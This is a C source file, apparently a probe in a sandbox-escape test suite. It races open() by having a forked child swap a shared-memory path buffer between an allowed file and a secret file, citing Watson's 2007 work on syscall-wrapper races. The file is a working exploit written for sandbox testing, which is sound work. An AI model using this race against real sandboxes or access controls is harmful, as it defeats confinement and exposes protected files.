/* e0106-toctou-shared-map - argument TOCTOU on open(), by a sibling
 * process sharing the path's memory (MAP_SHARED).
 *
 * Attack: the path buffer lives in a MAP_SHARED mapping made before fork;
 * the child flips it between the allowed file and the secret with plain
 * stores, while the parent opens and reads the buffer's path.  No system
 * call of the child's shows the change.
 * Source: Watson 2007 (shared-memory races on system call wrappers).
 * Usage: e0106-toctou-shared-map ALLOWED SECRET */
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "escape.h"

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0106-toctou-shared-map ALLOWED SECRET");
	char expect[512];
	if (esc_read_file(argv[1], expect, sizeof expect) < 0)
		esc_die(argv[1]);
	char *path = mmap(NULL, PATH_MAX, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (path == MAP_FAILED)
		esc_die("mmap");
	strcpy(path, argv[1]);
	fflush(NULL);
	pid_t pid = fork();
	if (pid < 0)
		esc_die("fork");
	if (pid == 0) {
		size_t la = strlen(argv[1]) + 1, ls = strlen(argv[2]) + 1;
		long long end = esc_now_ms() + ESC_RACE_MS + 500;
		while (esc_now_ms() < end) {
			for (int i = 0; i < 1000; i++) {
				memcpy(path, argv[2], ls);
				__atomic_signal_fence(__ATOMIC_SEQ_CST);
				memcpy(path, argv[1], la);
				__atomic_signal_fence(__ATOMIC_SEQ_CST);
			}
		}
		_exit(0);
	}
	esc_race_open("open of the path in shared memory", path, expect);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return 0;
}
